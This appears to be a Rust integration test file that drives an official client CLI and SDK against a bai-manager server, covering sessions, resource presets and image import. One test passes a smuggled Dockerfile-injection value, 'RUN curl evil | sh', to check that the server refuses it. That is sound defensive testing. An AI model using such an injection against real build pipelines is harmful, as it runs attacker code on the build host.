//! The official client 23.09.10 (CLI and SDK, from `deploy/peers/client.sh`) against a real
//! `bai-manager start-server`: the commands of captures/real-cli-commands.log whose REST calls
//! this manager serves, with the same console output.

use std::path::PathBuf;
use std::process::Command;
use std::sync::OnceLock;

use bai_testkit::TestEnv;
use serde_json::Value;

use crate::api_session::{IMAGE, REGISTRY};
use crate::api_support::*;
use crate::manager_process::ManagerProcess;

fn repo_root() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
}

/// The client's venv, installed on first use (once per test process).
pub(crate) fn client_bin_dir() -> PathBuf {
    static DIR: OnceLock<PathBuf> = OnceLock::new();
    DIR.get_or_init(|| {
        let script = repo_root().join("deploy/peers/client.sh");
        let status = Command::new("bash")
            .arg(&script)
            .arg("install")
            .status()
            .expect("running deploy/peers/client.sh");
        assert!(status.success(), "deploy/peers/client.sh install failed");
        let output = Command::new("bash")
            .arg(&script)
            .arg("cli")
            .output()
            .expect("running deploy/peers/client.sh cli");
        PathBuf::from(String::from_utf8_lossy(&output.stdout).trim())
            .parent()
            .expect("the CLI lives in the venv's bin folder")
            .to_owned()
    })
    .clone()
}

/// A running bai-manager with the example fixtures and the test image, and the client's
/// environment pointing at it.
struct ClientWorld {
    env: TestEnv,
    manager: ManagerProcess,
}

impl ClientWorld {
    async fn start() -> ClientWorld {
        let env = TestEnv::new().await;
        env.load_example_fixtures().await;
        let db = env.db.connect().await;
        db.execute(
            "INSERT INTO images (name, project, image, tag, registry, architecture, config_digest,
                                 size_bytes, labels, resources)
             VALUES ($1, 'testing', 'testing/python', '3.9-ubuntu20.04', $2, 'x86_64',
                     'sha256:fcffa2299032fe7456c00a9b8e2bcbd3c8c49950cd8156118c1703d2d3ea1340',
                     938, '{}', '{\"cpu\": {\"min\": \"1\"}, \"mem\": {\"min\": \"256m\"}}')",
            &[&IMAGE, &REGISTRY],
        )
        .await
        .unwrap();
        let config = env.manager_toml("");
        let mut manager =
            ManagerProcess::start_server(&config, &[], &env.path("manager-output.log"));
        manager.wait_for_port(env.service_port);
        ClientWorld { env, manager }
    }

    async fn allow_registry(&self) {
        self.env
            .db
            .connect()
            .await
            .execute(
                "UPDATE domains SET allowed_docker_registries =
                     array_append(allowed_docker_registries, $1) WHERE name = 'default'",
                &[&REGISTRY],
            )
            .await
            .unwrap();
    }

    fn command(&self, program: &str, access_key: &str, secret_key: &str) -> Command {
        let mut command = Command::new(client_bin_dir().join(program));
        let home = self.env.path("client-home");
        std::fs::create_dir_all(&home).unwrap();
        command
            .env_clear()
            .env("PATH", "/usr/bin:/bin")
            .env("HOME", &home)
            .env("LANG", "C.UTF-8")
            .env(
                "BACKEND_ENDPOINT",
                format!("http://127.0.0.1:{}", self.env.service_port),
            )
            .env("BACKEND_ENDPOINT_TYPE", "api")
            .env("BACKEND_ACCESS_KEY", access_key)
            .env("BACKEND_SECRET_KEY", secret_key);
        command
    }

    /// Runs `backend.ai ARGS` as the admin; returns (exit code, stdout + stderr).
    fn cli(&self, args: &[&str]) -> (i32, String) {
        self.cli_as(ADMIN_AK, ADMIN_SK, args)
    }

    /// Runs `backend.ai ARGS` with another keypair.
    fn cli_as(&self, access_key: &str, secret_key: &str, args: &[&str]) -> (i32, String) {
        let output = self
            .command("backend.ai", access_key, secret_key)
            .args(args)
            .output()
            .expect("running the backend.ai CLI");
        let mut text = String::from_utf8_lossy(&output.stdout).into_owned();
        text.push_str(&String::from_utf8_lossy(&output.stderr));
        (output.status.code().unwrap_or(-1), text)
    }

    /// Runs a Python snippet with the client SDK as `access_key`; returns its stdout as JSON.
    fn sdk(&self, access_key: &str, secret_key: &str, code: &str) -> Value {
        let output = self
            .command("python", access_key, secret_key)
            .arg("-c")
            .arg(code)
            .output()
            .expect("running the client SDK");
        let stdout = String::from_utf8_lossy(&output.stdout);
        assert!(
            output.status.success(),
            "the SDK script failed:\n{stdout}\n{}",
            String::from_utf8_lossy(&output.stderr)
        );
        serde_json::from_str(stdout.trim()).unwrap_or_else(|e| panic!("{e}: {stdout}"))
    }
}

fn assert_contains(text: &str, expected: &[&str]) {
    for line in expected {
        assert!(text.contains(line), "{line:?} is not in:\n{text}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_official_cli_creates_and_destroys_sessions_as_against_the_original() {
    let world = ClientWorld::start().await;

    // As in real-cli-commands.log, before the registry is allowed for the domain:
    let create = [
        "session",
        "create",
        "--name",
        "sess1",
        "--enqueue-only",
        "-r",
        "cpu=1",
        "-r",
        "mem=512m",
        IMAGE,
    ];
    let (code, out) = world.cli(&create);
    assert_eq!(code, 1, "{out}");
    assert_contains(
        &out,
        &[
            "✘ BackendAPIError: 404 Not Found",
            "No such environment image.",
            "➜ Message: unknown alias or disallowed registry",
        ],
    );
    for args in [
        &["session", "destroy", "sess1"][..],
        &["session", "destroy", "--forced", "sess1"][..],
    ] {
        let (code, out) = world.cli(args);
        assert_eq!(code, 1, "{out}");
        assert_contains(
            &out,
            &[
                "Terminating the session(s)...",
                "✘ BackendAPIError: 404 Not Found",
                "No such session.",
                "➜ Message: Session (id=sess1) does not exist.",
            ],
        );
    }

    world.allow_registry().await;
    let (code, out) = world.cli(&create);
    assert_eq!(code, 0, "{out}");
    assert!(
        out.contains("∙ Session ID ") && out.contains(" is enqueued for scheduling."),
        "{out}"
    );
    let session_id = out
        .split("Session ID ")
        .nth(1)
        .and_then(|rest| rest.split_whitespace().next())
        .expect("a session id in the output")
        .to_owned();
    assert_eq!(session_id.len(), 36, "{out}");

    // The SDK's REST view of it (ComputeSession.get_info → GET /session/sess1).
    let info = world.sdk(
        ADMIN_AK,
        ADMIN_SK,
        "import json\nfrom ai.backend.client.session import Session\n\
         with Session() as s:\n    print(json.dumps(s.ComputeSession('sess1').get_info()))",
    );
    assert_eq!(info["status"], "PENDING");
    assert_eq!(info["image"], IMAGE);
    assert_eq!(info["userId"], "f38dea23-50fa-42a0-b5ae-338f5f4693f4");

    let (code, out) = world.cli(&["session", "destroy", "sess1"]);
    assert_eq!(code, 0, "{out}");
    assert_contains(&out, &["Terminating the session(s)...", "✓ Done."]);
    let status: String = world
        .env
        .db
        .connect()
        .await
        .query_one(
            "SELECT status::text FROM sessions WHERE id::text = $1",
            &[&session_id],
        )
        .await
        .unwrap()
        .get(0);
    assert_eq!(status, "CANCELLED");

    // A forced destroy of a PENDING session cancels it as well.
    let (code, out) = world.cli(&create);
    assert_eq!(code, 0, "{out}");
    let (code, out) = world.cli(&["session", "destroy", "--forced", "sess1"]);
    assert_eq!(code, 0, "{out}");
    assert_contains(&out, &["✓ Done."]);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn presets_roles_and_config_through_the_official_sdk_and_cli() {
    let world = ClientWorld::start().await;

    let presets = world.sdk(
        USER_AK,
        USER_SK,
        "import json\nfrom ai.backend.client.session import Session\n\
         with Session() as s:\n    print(json.dumps(s.Resource.list()))",
    );
    assert_eq!(presets["presets"].as_array().unwrap().len(), 6);
    assert_eq!(
        presets["presets"][0],
        serde_json::json!({"name": "cpu01-small", "shared_memory": null,
                           "resource_slots": {"cpu": "1", "mem": "1073741824"}})
    );

    let check = world.sdk(
        USER_AK,
        USER_SK,
        "import json\nfrom ai.backend.client.session import Session\n\
         with Session() as s:\n    print(json.dumps(s.Resource.check_presets()))",
    );
    assert_eq!(
        check["keypair_limits"],
        serde_json::json!({"cpu": "Infinity", "mem": "Infinity"})
    );
    assert_eq!(
        check["scaling_groups"]["default"]["remaining"],
        serde_json::json!({"cpu": "0", "mem": "0"})
    );
    assert_eq!(check["presets"].as_array().unwrap().len(), 6);

    let (code, out) = world.cli(&["admin", "resource", "query-slots"]);
    assert_eq!(code, 0, "{out}");
    assert_contains(&out, &["cpu", "count", "mem", "bytes"]);
    let (code, out) = world.cli(&["admin", "resource", "vfolder-types"]);
    assert_eq!(code, 0, "{out}");
    assert_contains(&out, &["user"]);

    // `vfolder list-hosts` asks for /folders/_/hosts: with no storage proxy configured in
    // etcd there is no usable host (the storage tests cover configured proxies).
    let (code, out) = world.cli(&["vfolder", "list-hosts"]);
    assert_eq!(code, 0, "{out}");
    assert_contains(&out, &["Default vfolder host: None", "Usable hosts: "]);
    assert!(!out.contains("Traceback"), "{out}");

    // Nothing the manager printed carries a secret key.
    let log = world.manager.output();
    for secret in ALL_SECRETS {
        assert!(!log.contains(secret), "the manager logged a secret key");
    }
}

/// The importer image's row, as a registry sync would write it.
async fn add_importer_image(env: &TestEnv) {
    let db = env.db.connect().await;
    db.execute(
        "INSERT INTO images (name, project, image, tag, registry, architecture, config_digest,
                             size_bytes, labels, resources)
         VALUES ('index.docker.io/lablup/importer:manylinux2010', 'lablup', 'lablup/importer',
                 'manylinux2010', 'index.docker.io', 'x86_64',
                 'sha256:0b2a3f3e0c9e1e8b7f1c5a1d9a7c3b2e4f6a8c0d2e4f6a8b0c2d4e6f8a0b2c4d',
                 1000, '{\"ai.backend.kernelspec\": \"1\"}',
                 '{\"cpu\": {\"min\": \"1\"}, \"mem\": {\"min\": \"256m\"}}')",
        &[],
    )
    .await
    .unwrap();
    db.execute(
        "UPDATE domains SET allowed_docker_registries =
             array_append(allowed_docker_registries, 'index.docker.io') WHERE name = 'default'",
        &[],
    )
    .await
    .unwrap();
}

#[tokio::test]
async fn the_official_sdk_imports_an_image_through_an_importer_batch_session() {
    let world = ClientWorld::start().await;
    world.allow_registry().await;
    world
        .env
        .etcd_put(
            "config/docker/registry/127.0.0.1%3A25000/username",
            "builder",
        )
        .await;
    world
        .env
        .etcd_put(
            "config/docker/registry/127.0.0.1%3A25000/password",
            "importer-registry-pass",
        )
        .await;
    let build = |brand: &str| {
        format!(
            "import json\nfrom ai.backend.client.session import Session\n\
             from ai.backend.client.exceptions import BackendAPIError\n\
             with Session() as s:\n    try:\n        print(json.dumps(s.Image.build(\
             src='{IMAGE}', target='{REGISTRY}/testing/python-imported:3.9',\
             brand={brand:?}, baseDistro='ubuntu', minCPU=1, minMemory='128m',\
             supportedAccelerators=['cuda'], runtimeType='python',\
             runtimePath='/usr/local/bin/python', CPUCountEnvs=['NPROC'],\
             servicePorts=[{{'name': 'jupyter', 'protocol': 'http', 'ports': [8080]}}])))\n\
             \x20   except BackendAPIError as e:\n        print(json.dumps({{'status': e.status, 'data': e.data}}))"
        )
    };
    let db = world.env.db.connect().await;

    // Without the importer image there is nothing to run the build with.
    let refused = world.sdk(ADMIN_AK, ADMIN_SK, &build("Python 3.9"));
    assert_eq!(refused["status"], 404, "{refused}");
    assert_eq!(refused["data"]["title"], "No such environment image.");
    // A brand that would add lines to the Dockerfile is refused, naming the parameter.
    add_importer_image(&world.env).await;
    let refused = world.sdk(ADMIN_AK, ADMIN_SK, &build("x\"\nRUN curl evil | sh"));
    assert_eq!(refused["status"], 400, "{refused}");
    assert!(refused["data"]["data"]["brand"].is_string(), "{refused}");
    // Users cannot import.
    let refused = world.sdk(USER_AK, USER_SK, &build("Python 3.9"));
    assert_eq!(refused["status"], 401, "{refused}");
    let count = db
        .query_one(
            "SELECT count(*) FROM sessions WHERE name LIKE 'image-import-%'",
            &[],
        )
        .await
        .unwrap()
        .get::<_, i64>(0);
    assert_eq!(count, 0, "a refused import left a session behind");

    // The admin's own bootstrap script stays out of the importer's container.
    db.execute(
        "UPDATE keypairs SET bootstrap_script = 'echo mine' WHERE access_key = $1",
        &[&ADMIN_AK],
    )
    .await
    .unwrap();
    let reply = world.sdk(ADMIN_AK, ADMIN_SK, &build("Python 3.9"));
    let task = &reply["importTask"];
    let session_name = task["sessionId"].as_str().expect("a session name");
    assert!(session_name.starts_with("image-import-"), "{reply}");
    let kernel_id = uuid::Uuid::parse_str(task["taskId"].as_str().expect("a task id"))
        .expect("the task id is the kernel's id");
    assert!(!reply.to_string().contains("importer-registry-pass"));

    let row = db
        .query_one(
            "SELECT s.session_type::text, s.status::text, k.image, k.startup_command, k.environ,
                    k.internal_data, s.access_key, k.bootstrap_script
             FROM sessions s JOIN kernels k ON k.session_id = s.id
             WHERE s.name = $1 AND k.id = $2",
            &[&session_name, &kernel_id],
        )
        .await
        .unwrap();
    assert_eq!(row.get::<_, String>(0), "BATCH");
    assert_eq!(row.get::<_, String>(1), "PENDING");
    assert_eq!(
        row.get::<_, String>(2),
        "index.docker.io/lablup/importer:manylinux2010"
    );
    assert_eq!(
        row.get::<_, Option<String>>(3).as_deref(),
        Some("/root/build-image.sh")
    );
    let environ: Vec<String> = row.get(4);
    assert!(
        environ.contains(&format!("SRC_IMAGE={IMAGE}")),
        "{environ:?}"
    );
    assert!(
        environ.contains(&format!(
            "TARGET_IMAGE={REGISTRY}/testing/python-imported:3.9"
        )),
        "{environ:?}"
    );
    let script = environ
        .iter()
        .find_map(|e| e.strip_prefix("BUILD_SCRIPT="))
        .expect("the build script");
    use base64::Engine;
    let dockerfile = String::from_utf8(
        base64::engine::general_purpose::STANDARD
            .decode(script)
            .unwrap(),
    )
    .unwrap();
    assert!(
        dockerfile.contains(&format!("FROM {IMAGE}\n")),
        "{dockerfile}"
    );
    assert!(dockerfile.contains("ai.backend.resource.min.mem=\"128 MiB\""));
    assert!(dockerfile.contains("ai.backend.service-ports=\"jupyter:http:8080\""));
    let internal: Value = row.get(5);
    assert_eq!(
        internal["docker_credentials"][REGISTRY],
        serde_json::json!({"username": "builder", "password": "importer-registry-pass"})
    );
    assert_eq!(internal["block_service_ports"], true);
    assert_eq!(
        internal["domain_socket_proxies"],
        serde_json::json!(["/var/run/docker.sock"])
    );
    assert_eq!(row.get::<_, String>(6), ADMIN_AK);
    assert_eq!(row.get::<_, Option<String>>(7), None);

    // The registry's password went to the kernel's internal data only, never to the log.
    assert!(!world.manager.output().contains("importer-registry-pass"));
}
